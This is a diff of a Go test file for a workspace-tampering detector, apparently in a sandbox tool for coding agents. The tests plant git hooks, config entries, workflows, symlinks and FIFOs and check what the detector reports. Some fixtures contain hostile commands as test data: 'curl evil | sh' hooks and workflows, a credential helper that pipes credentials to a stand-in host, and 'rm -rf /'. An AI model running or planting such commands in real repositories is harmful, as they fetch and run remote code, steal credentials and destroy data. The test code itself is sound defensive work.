@@ -7,6 +7,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/aboxhq/abox/internal/watch"
 )
@@ -52,13 +53,13 @@ func TestGitTamper(t *testing.T) {
 		do   func(f *fixture)
 		want string
 	}{
-		{"planted hook", func(f *fixture) { f.writeWS(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n") }, "added hook post-checkout"},
+		{"planted hook", func(f *fixture) { f.writeWS(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n") }, "added: hook post-checkout"},
 		{"fsmonitor set", func(f *fixture) {
 			f.writeWS(".git/config", "[core]\n\tbare = false\n\tFSMonitor = .git/x.sh\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
-		}, "added core.fsmonitor = .git/x.sh"},
+		}, "added: core.fsmonitor = .git/x.sh"},
 		{"hooksPath hidden by indentation", func(f *fixture) {
 			f.writeWS(".git/config", "[Core]\n\tbare = false\n\t\t\t\thooksPath = .githooks\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
-		}, "added core.hookspath = .githooks"},
+		}, "added: core.hookspath = .githooks"},
 		{"credential helper by include", func(f *fixture) {
 			f.writeWS(".git/config", "[include]\n\tpath = ../notes.cfg\n")
 			f.writeWS("notes.cfg", "[credential]\n\thelper = !curl -d @- evil\n")
@@ -69,6 +70,7 @@ func TestGitTamper(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			f := newFixture(t, baseManifest).healthy()
 			gitRepo(f)
+			f.baseline()
 			wantStatus(t, "git.tamper (baseline)", f.run(gitTamper), OK)
 			tc.do(f)
 			got := f.run(gitTamper)
@@ -90,15 +92,39 @@ func TestGitTamper(t *testing.T) {
 	}
 }
 
-func TestGitTamperFirstLookReportsWhatIsThere(t *testing.T) {
+// TestNoBaselineIsNotTakenOnFirstLook: doctor never records a baseline on its own; what is
+// there when it first looks (an agent may have planted it) is not accepted until the user says
+// so with --accept-*, which then lists what it recorded.
+func TestNoBaselineIsNotTakenOnFirstLook(t *testing.T) {
 	f := newFixture(t, baseManifest).healthy()
+	removeAll(t, f.project.Baselines())
 	f.writeWS(".git/config", "[alias]\n\tst = status\n")
-	got := f.run(gitTamper)
-	wantStatus(t, "git.tamper (first look)", got, Warn)
-	if !strings.Contains(got.Detail, "alias.st = status") {
-		t.Errorf("detail %q", got.Detail)
+	for _, c := range []struct {
+		id     string
+		check  func(context.Context, *Env) Finding
+		accept func(*Env)
+	}{
+		{"git.tamper", gitTamper, func(e *Env) { e.AcceptGit = true }},
+		{"workspace.exec-surface", execSurface, func(e *Env) { e.AcceptWatch = true }},
+	} {
+		for i := 0; i < 2; i++ {
+			got := f.run(c.check)
+			wantStatus(t, c.id+" (no baseline)", got, Warn)
+			if !strings.Contains(got.Detail, "no baseline recorded") || !strings.Contains(got.Hint, "`abox up`") {
+				t.Errorf("%s: %q / %q, want no baseline and the `abox up` hint", c.id, got.Detail, got.Hint)
+			}
+		}
+		e := f.env()
+		c.accept(e)
+		got := c.check(context.Background(), e)
+		if c.id == "git.tamper" {
+			wantStatus(t, c.id+" --accept-git", got, Warn)
+			if !strings.Contains(got.Detail, "alias.st = status") {
+				t.Errorf("detail %q does not list what was accepted", got.Detail)
+			}
+		}
+		wantStatus(t, c.id+" after accepting", f.run(c.check), OK)
 	}
-	wantStatus(t, "git.tamper (second look)", f.run(gitTamper), OK)
 }
 
 func TestExecSurface(t *testing.T) {
@@ -111,7 +137,7 @@ func TestExecSurface(t *testing.T) {
 			f.writeWS(".github/workflows/ci.yml", "on: push\njobs: {x: {run: curl evil | sh}}\n")
 		}, "changed: .github/workflows/ci.yml"},
 		{"new workflow", func(f *fixture) { f.writeWS(".github/workflows/new.yml", "x") }, "added: .github/workflows/new.yml"},
-		{"symlink retargeted", func(f *fixture) { f.writeWS("Makefile", "->/tmp/evil.mk") }, "changed: Makefile (symlink → /tmp/evil.mk)"},
+		{"symlink retargeted", func(f *fixture) { f.writeWS("Makefile", "->/tmp/evil.mk") }, "changed: Makefile (now a symlink → /tmp/evil.mk)"},
 		{"claude hook planted", func(f *fixture) { f.writeWS(".claude/settings.json", `{"hooks":{}}`) }, "added: .claude/settings.json"},
 		{"devcontainer planted", func(f *fixture) { f.writeWS(".devcontainer/devcontainer.json", `{"initializeCommand":"x"}`) }, "added: .devcontainer/devcontainer.json"},
 		{"custom watch", func(f *fixture) { f.writeWS("deploy.sh", "rm -rf /") }, "changed: deploy.sh"},
@@ -123,6 +149,8 @@ func TestExecSurface(t *testing.T) {
 			f.approve()
 		}, ""},
 		{"an unapproved manifest is", func(f *fixture) { f.writeWS("agentbox.yaml", baseManifest+"egress: [x.example]\n") }, "changed: agentbox.yaml"},
+		{"a FIFO in a watched file's place", func(f *fixture) { f.fifo("deploy.sh") }, "changed: deploy.sh (now a FIFO)"},
+		{"a link to a device", func(f *fixture) { f.writeWS(".github/workflows/ci.yml", "->/dev/zero") }, "changed: .github/workflows/ci.yml (now a symlink → /dev/zero)"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -132,6 +160,7 @@ func TestExecSurface(t *testing.T) {
 			f.writeWS("Makefile", "->make/real.mk")
 			f.writeWS("deploy.sh", "echo deploy")
 			f.writeWS(".env.local", "SECRET=1")
+			f.baseline()
 			wantStatus(t, "exec-surface (baseline)", f.run(execSurface), OK)
 			tc.do(f)
 			got := f.run(execSurface)
@@ -154,8 +183,7 @@ func TestExecSurface(t *testing.T) {
 func TestBaselinesArePrivate(t *testing.T) {
 	f := newFixture(t, baseManifest).healthy()
 	gitRepo(f)
-	f.run(gitTamper)
-	f.run(execSurface)
+	f.baseline()
 	st, err := os.Stat(f.project.Baselines())
 	if err != nil {
 		t.Fatal(err)
@@ -178,6 +206,25 @@ func TestReviewCopy(t *testing.T) {
 	wantStatus(t, "artifacts.review-copy", got, Warn)
 	if !strings.Contains(got.Detail, "compose.yaml (edited)") || !strings.Contains(got.Detail, "devcontainer.json (not written by abox)") {
 		t.Errorf("detail %q", got.Detail)
+	}
+}
+
+// TestReviewCopyHostile: a FIFO or a link to a device in the review copy is named as such, at
+// once: doctor never opens it.
+func TestReviewCopyHostile(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	f.fifo(".devcontainer/compose.yaml")
+	f.writeWS(".devcontainer/netpolicy.nft", "->/dev/zero")
+	done := make(chan Finding, 1)
+	go func() { done <- f.run(artifactsReviewCopy) }()
+	select {
+	case got := <-done:
+		wantStatus(t, "artifacts.review-copy", got, Warn)
+		if !strings.Contains(got.Detail, "compose.yaml (now a FIFO)") || !strings.Contains(got.Detail, "netpolicy.nft (now a symlink)") {
+			t.Errorf("detail %q", got.Detail)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("artifacts.review-copy blocked on a FIFO")
 	}
 }
 
